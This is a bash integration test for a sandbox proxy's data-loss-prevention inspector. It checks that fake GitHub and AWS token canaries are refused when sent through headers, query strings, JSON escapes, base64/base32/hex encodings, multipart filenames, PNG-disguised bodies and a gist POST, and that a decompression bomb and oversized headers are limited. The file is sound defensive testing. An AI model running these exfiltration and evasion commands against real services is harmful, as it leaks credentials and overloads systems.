#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The escapes.md DLP rows the inspector chain answers inside cage-proxy (59-62, 65, 69, 82,
# 97-99): the verdict, the audit reason and rule, and no canary at the fake internet. Plus
# benign controls that must pass untouched. WebSocket frames (row 68) are in ws_rows.sh.
# Row 71 (entropy, opt-in) and the npm/pip install controls are in dlp_more_rows.sh.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/integration/secrets_setup.bash"

E=echo.allowed.test
ec() { cc $E "$1"; }   # curl to the echo host inside the cage: body then status

n=$(N 59); m=$(audit_mark)
r=$(ec "\"https://$E/$n/$CANARY_AWS?q=$CANARY_GH\"")
is "row 59: secrets in path and query → 403" "$(status_of "$r")" 403
check "row 59: dlp.hit github_token in query" audit_has "$m" dlp.hit 'github_token loc=query'
check "row 59: dlp.hit aws_access_key in path" audit_has "$m" dlp.hit 'aws_access_key loc=path'
refute "row 59: the echo host never saw the request" grep -q -- "$n" /run/lab/sentinel.log

for args in "-H 'X-Debug: $CANARY_GH'" "-A '$CANARY_AWS'" "-b 's=$CANARY_GH'" "-u 'u:$CANARY_GH'"; do
	for v in --http1.1 --http2; do
		n=$(N 60)
		r=$(ec "$v https://$E/$n $args")
		is "row 60: header ${args%% *} $v → 403" "$(status_of "$r")" 403
	done
done
m=$(audit_mark); ec "https://$E/x -u 'u:$CANARY_GH'" >/dev/null
check "row 60: Basic auth decoded, loc=header:authorization" audit_has "$m" dlp.hit 'loc=header:authorization'

r=$(ec "https://$E/61 -H 'content-type: application/json' -d '{\"k\":\"$CANARY_GH\"}'")
is "row 61: JSON body → 403" "$(status_of "$r")" 403
r=$(ec "https://$E/61 -H 'content-type: application/json' -d '{\"k\":\"\\u0067hp_R3dT3amC4nary00000000000000000000000\"}'")
is "row 61: JSON escapes decoded → 403" "$(status_of "$r")" 403

r=$(in_cage "printf %s '$CANARY_GH' > /tmp/s.txt; getent ahosts $E >/dev/null; $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 -F 'f=@/tmp/s.txt;filename=$CANARY_AWS' https://$E/62")
is "row 62: multipart part and filename → 403" "$r" 403
r=$(ec "https://$E/62 --data-urlencode 'x=$CANARY_GH'")
is "row 62: form value URL-decoded → 403" "$(status_of "$r")" 403

for e in "base64 -w0" "xxd -p" "base32 -w0"; do
	r=$(in_cage "getent ahosts $E >/dev/null; $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 https://$E/65 -d \"d=\$(printf %s '$CANARY_GH' | $e)\"")
	is "row 65: ${e%% *} → 403" "$r" 403
done

m=$(audit_mark)
r=$(in_cage "getent ahosts $E >/dev/null; { printf '\\211PNG\\r\\n\\032\\n'; printf %s '$CANARY_GH'; } | $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 --data-binary @- -H 'content-type: image/png' https://$E/69")
is "row 69: canary inside a declared PNG → 403" "$r" 403
check "row 69: audited dlp.hit (text regions scanned anyway)" audit_has "$m" dlp.hit

m=$(audit_mark)
r=$(cc api.allowed.test "-X POST https://api.allowed.test/gists -H \"Authorization: Bearer \$GITHUB_TOKEN\" -d '{\"public\":true,\"content\":\"$CANARY_GH\"}'")
is "row 82: exfil through the bound API → 403" "$(status_of "$r")" 403
check "row 82: dlp.hit host=api.allowed.test" audit_has "$m" dlp.hit '"host":"api.allowed.test"'

r=$(in_cage "{ head -c 200000 /dev/zero | tr '\\0' a | sed 's/^/X-A: /'; echo; echo 'X-B: $CANARY_GH'; } > /tmp/h; getent ahosts $E >/dev/null; $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 10 --resolve $E:443:$A4 -H @/tmp/h https://$E/97")
is "row 97: huge header block with the canary at the end → 431" "$r" 431

m=$(audit_mark)
r=$(in_cage "getent ahosts $E >/dev/null; { head -c 30M /dev/zero; printf %s '$CANARY_GH'; } | $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 60 --resolve $E:443:$A4 -T - https://$E/98")
is "row 98: 30 MB body, canary after the limit → 413" "$r" 413
check "row 98: limit.body audited" audit_has "$m" limit.body

m=$(audit_mark)
r=$(in_cage "getent ahosts $E >/dev/null; head -c 300M /dev/zero | gzip -1 | $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 60 --resolve $E:443:$A4 --data-binary @- -H 'Content-Encoding: gzip' https://$E/99")
is "row 99: decompression bomb → 413" "$r" 413
check "row 99: limit.inflate audited" audit_has "$m" limit.inflate
check "cage-proxy alive after the bomb" kill -0 "$PROXY_PID"

# Benign controls.
r=$(ec "https://$E/ok -H 'content-type: application/json' -d '{\"id\":\"3f2b8c1e-9a4d-4e1f-8b7a-2c5d6e7f8a9b\",\"sha\":\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"}'")
is "benign: UUID and sha256 hex in JSON → 200" "$(status_of "$r")" 200
like "benign: the body arrived intact" "$r" 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
# A PNG opening (signature, IHDR) and random pixel bytes: base64 images are not flagged.
m=$(audit_mark)
r=$(in_cage "getent ahosts $E >/dev/null; printf '{\"thumb\":\"data:image/png;base64,%s\"}' \"\$( { printf '\\211PNG\\r\\n\\032\\n\\0\\0\\0\\rIHDR'; head -c 3000 /dev/urandom; } | base64 -w0)\" | $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 -H 'content-type: application/json' --data-binary @- https://$E/thumb")
is "benign: base64 PNG thumbnail in JSON → 200" "$r" 200
check "benign: the thumbnail left no inspector record" test "$(sleep 0.3; tail -n +$((m + 1)) "$AUDIT" | grep -cE '"event":"(dlp|limit|decode)\.')" = 0
r=$(cc api.allowed.test "https://api.allowed.test/upload --data-binary @/etc/os-release")
is "benign: small upload → 200" "$(status_of "$r")" 200
like "benign: the upload arrived byte for byte" "$(head -1 <<<"$r")" "^$(in_cage 'sha256sum /etc/os-release' | cut -d' ' -f1)\$"

leaks=$(tail -n +$((SENT0 + 1)) /run/lab/sentinel.log | grep -cF -e "$CANARY_GH" -e "$CANARY_AWS" -e "$(printf %s "$CANARY_GH" | base64 -w0)")
is "sentinel: no canary reached the fake internet" "$leaks" 0
# Audit integrity: a refused secret is recorded by rule and location, never by its bytes.
is "audit log: no canary in any record" "$(grep -cF -e "$CANARY_GH" -e "$CANARY_AWS" "$AUDIT")" 0
check "cage-proxy still running" kill -0 "$PROXY_PID"
done_testing
